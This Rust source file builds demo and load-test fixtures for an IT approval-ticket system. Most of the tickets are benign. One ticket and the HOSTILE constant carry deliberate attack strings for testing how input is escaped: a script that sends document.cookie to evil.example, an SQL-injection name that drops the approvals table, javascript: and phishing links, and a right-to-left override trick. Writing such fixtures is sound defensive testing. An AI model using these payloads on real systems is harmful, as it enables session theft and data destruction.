//! Worlds to look at and to load: a believable demo, and as many tickets as a bench wants.

use super::ids::TicketRef;
use super::model::{Module, Rule};
use super::names::{PRIORITIES, SUBJECTS};
use super::world::World;
use super::{Clock, Stubs};

const HOUR: i64 = 3_600_000;
const DAY: i64 = 24 * HOUR;

/// What Sam Stinson wrote in the published example of an approval card.
pub(crate) const AV_TEXT: &str = "The A/V Equipment in Conference Room B has stopped working. The internals are fried. \
                                  Requesting approval for replacement.";

impl Stubs {
    /// The demo world on the system's clock: three modules, several levels, some decided, one hostile ticket.
    pub fn demo(seed: u64) -> Self {
        let stubs = Self::new(seed);
        stubs.with(World::fill_demo);
        stubs
    }

    /// The demo world on this clock.
    pub fn demo_with_clock(seed: u64, clock: Clock) -> Self {
        let stubs = Self::with_clock(seed, clock);
        stubs.with(World::fill_demo);
        stubs
    }
}

impl World {
    /// Adds the demo's tickets to the world.
    pub fn fill_demo(&mut self) {
        demo_requests(self);
        demo_more_requests(self);
        demo_oddities(self);
        demo_changes(self);
        demo_releases(self);
    }

    /// Adds `tickets` requests of `levels` levels with so many approvals each. Approvers are `approver{n}@corp.example`.
    pub fn populate(&mut self, tickets: usize, levels: usize, approvals_per_level: usize) -> Vec<TicketRef> {
        self.populate_in(Module::Requests, tickets, levels, approvals_per_level)
    }

    /// As [`populate`](Self::populate), in this module.
    pub fn populate_in(
        &mut self,
        module: Module,
        tickets: usize,
        levels: usize,
        approvals_per_level: usize,
    ) -> Vec<TicketRef> {
        let now = self.now();
        (0..tickets)
            .map(|n| {
                let subject = format!("{} ({n})", self.dice.pick(SUBJECTS));
                let (priority, (name, email)) = (self.dice.pick(PRIORITIES), self.dice.person());
                let at = now - HOUR - i64::try_from(n).unwrap_or(0) * 1000;
                let mut ticket = self
                    .new_ticket(module)
                    .subject(&subject)
                    .description(&format!("<div>{subject}. Please decide <b>this week</b>.<br>Thank you</div>"))
                    .requester(&name, &email)
                    .priority(priority)
                    .created(at - DAY)
                    .updated(at);
                for level in 0..levels {
                    let people: Vec<(String, String)> = (0..approvals_per_level)
                        .map(|place| (n * levels + level) * approvals_per_level + place)
                        .map(|who| (format!("Approver {}", who % 500), format!("approver{}@corp.example", who % 500)))
                        .collect();
                    let people: Vec<(&str, &str)> = people.iter().map(|(n, e)| (n.as_str(), e.as_str())).collect();
                    ticket = ticket.level(&people);
                }
                ticket.add()
            })
            .collect()
    }
}

fn demo_requests(world: &mut World) {
    let now = world.now();
    world
        .request()
        .number("874")
        .subject("Replace A/V equipment in Conference Room B")
        .description(&format!("<div>{AV_TEXT}</div>"))
        .requester("Sam Stinson", "sam.stinson@corp.example")
        .priority("High")
        .group("Workplace Technology")
        .created(now - 2 * HOUR)
        .updated(now - 20 * 60_000)
        .level(&[("Gwen Tamm", "gwen.tamm@corp.example")])
        .level(&[("Ana Abara", "ana.abara@corp.example"), ("Lars Koch", "lars.koch@corp.example")])
        .add();
    let (name, email) = world.dice.person();
    let laptop = world
        .request()
        .number("861")
        .subject("Laptop for a new starter in Accounting")
        .description("<p>Starts on the 3rd.</p><ul><li>14 inch</li><li>docking station</li></ul>")
        .requester(&name, &email)
        .priority("Medium")
        .created(now - 3 * DAY)
        .updated(now - DAY)
        .level(&[("Elif Haddad", "elif.haddad@corp.example")])
        .level(&[("Gwen Tamm", "gwen.tamm@corp.example")])
        .add();
    let _ = world.approve(&laptop.approval(0, 0), "Elif Haddad");
}

fn demo_more_requests(world: &mut World) {
    let now = world.now();
    let (name, email) = world.dice.person();
    world
        .request()
        .number("866")
        .subject("Read access to the finance share")
        .description("<div>For the quarterly report &amp; the audit.<br><br>Until the end of the month.</div>")
        .requester(&name, &email)
        .priority("Normal")
        .updated(now - 5 * HOUR)
        .level(&[
            ("Ana Abara", "ana.abara@corp.example"),
            ("Noor Petrov", "noor.petrov@corp.example"),
            ("Jonas Weiss", "jonas.weiss@corp.example"),
        ])
        .rule(Rule::Anyone)
        .add();
    let (name, email) = world.dice.person();
    let rejected = world
        .request()
        .number("858")
        .subject("Standing desk, walnut")
        .description("<div>The oak one does not match.</div>")
        .requester(&name, &email)
        .priority("Low")
        .created(now - 9 * DAY)
        .updated(now - 8 * DAY)
        .level(&[("Lars Koch", "lars.koch@corp.example")])
        .level(&[("Gwen Tamm", "gwen.tamm@corp.example")])
        .add();
    let _ = world.reject(&rejected.approval(0, 0), "Lars Koch");
    let (name, email) = world.dice.person();
    world
        .request()
        .number("871")
        .incident()
        .subject("Printer on floor 2 is jammed again")
        .description("<div>Third time this week.</div>")
        .requester(&name, &email)
        .priority("Normal")
        .add();
}

fn demo_oddities(world: &mut World) {
    let now = world.now();
    world
        .request()
        .number("879")
        .subject("<b>URGENT</b> </p><script>alert(1)</script> & \"free\" laptops :tada: 🎁")
        .description(HOSTILE)
        .requester("Robert'); DROP TABLE approvals;--", "mallory@corp.example")
        .priority("<a href=\"https://evil.example\">High</a>")
        .updated(now - HOUR)
        .level(&[("Gwen Tamm", "gwen.tamm@corp.example")])
        .add();
    world
        .request()
        .number("881")
        .subject("Phone for the warehouse")
        .description("<div>Shared phone, shift lead approves.</div>")
        .no_priority()
        .updated(now - 40 * 60_000)
        .level(&[("Warehouse Shift Lead", ""), ("Noor Petrov", "noor.petrov@corp.example")])
        .add();
    let (name, email) = world.dice.person();
    world
        .request()
        .number("883")
        .subject("Conference travel in spring")
        .description("<div>Two days, train.</div>")
        .requester(&name, &email)
        .level(&[("Ana Abara", "ana.abara@corp.example")])
        .role("Reporting manager")
        .unsent()
        .add();
    let (name, email) = world.dice.person();
    let delegated = world
        .request()
        .number("868")
        .subject("Drawing program, ten more licences")
        .description("<div>The trial ends on <i>Friday</i>.</div>")
        .requester(&name, &email)
        .priority("High")
        .updated(now - 6 * HOUR)
        .level(&[("Elif Haddad", "elif.haddad@corp.example")])
        .add();
    let _ = world.delegate(&delegated.approval(0, 0), "Jonas Weiss", "jonas.weiss@corp.example");
}

fn demo_changes(world: &mut World) {
    let now = world.now();
    world
        .change()
        .number("112")
        .subject("Move the mail gateway to the new data centre")
        .description("<div><p>Window: Saturday 22:00 to 02:00.</p><p>Roll-back: switch the record back.</p></div>")
        .requester("Tomoko Ito", "tomoko.ito@corp.example")
        .priority("High")
        .updated(now - 3 * HOUR)
        .level(&[
            ("Ana Abara", "ana.abara@corp.example"),
            ("Lars Koch", "lars.koch@corp.example"),
            ("Priya Dahl", "priya.dahl@corp.example"),
        ])
        .rule(Rule::Percent(60))
        .level(&[("Gwen Tamm", "gwen.tamm@corp.example")])
        .add();
    world
        .change()
        .number("115")
        .subject("Firmware of the core switches")
        .description("<div>Four switches, one after the other.</div>")
        .requester("Viktor Quist", "viktor.quist@corp.example")
        .priority("Medium")
        .add();
    let urgent = world
        .change()
        .number("117")
        .subject("Emergency patch of the VPN service")
        .description("<div>Known to be attacked. Restart takes <b>two minutes</b>.</div>")
        .requester("Tomoko Ito", "tomoko.ito@corp.example")
        .priority("High")
        .updated(now - 30 * HOUR)
        .level(&[("Priya Dahl", "priya.dahl@corp.example"), ("Lars Koch", "lars.koch@corp.example")])
        .rule(Rule::FirstResponse)
        .add();
    let _ = world.approve(&urgent.approval(0, 1), "Lars Koch");
}

fn demo_releases(world: &mut World) {
    let now = world.now();
    world
        .release()
        .number("31")
        .subject("Self-service portal 4.2")
        .description("<div>New: approvals in chat.<br>Fixed: 14 defects.</div>")
        .requester("Uma Rossi", "uma.rossi@corp.example")
        .priority("Medium")
        .updated(now - 7 * HOUR)
        .level(&[("Noor Petrov", "noor.petrov@corp.example")])
        .level(&[("Gwen Tamm", "gwen.tamm@corp.example"), ("Ana Abara", "ana.abara@corp.example")])
        .add();
    let (name, email) = world.dice.person();
    world
        .release()
        .number("33")
        .subject("Time sheets 2.0")
        .description("<div>Pilot in two departments.</div>")
        .requester(&name, &email)
        .priority("Low")
        .add();
}

/// A description that tries everything: scripts, links, markup of the chat, templates, direction marks, deep nesting.
const HOSTILE: &str = concat!(
    "<div onclick=\"x()\"><script>fetch('https://evil.example/'+document.cookie)</script>",
    "<style>*{display:none}</style><![CDATA[ <b>not text</b> ]]>",
    "<a href=\"javascript:alert(1)\">Approve here</a> <a href=\"https://evil.example/approve\">or here</a>",
    "&lt;script&gt;alert(2)&lt;/script&gt; &amp;amp; &#x202E;desrever &#0; ",
    "{{action_token}} {{{approval_id}}} *bold* _italic_ `code` ~~~ <@everyone> ",
    "<table><tr><td><table><tr><td><div><div><div>deep</div></div></div></td></tr></table></td></tr></table>",
    "<br><b>🎫 New Ticket Pending Your Approval</b><br><i>Ticket #</i>: 1</div>"
);
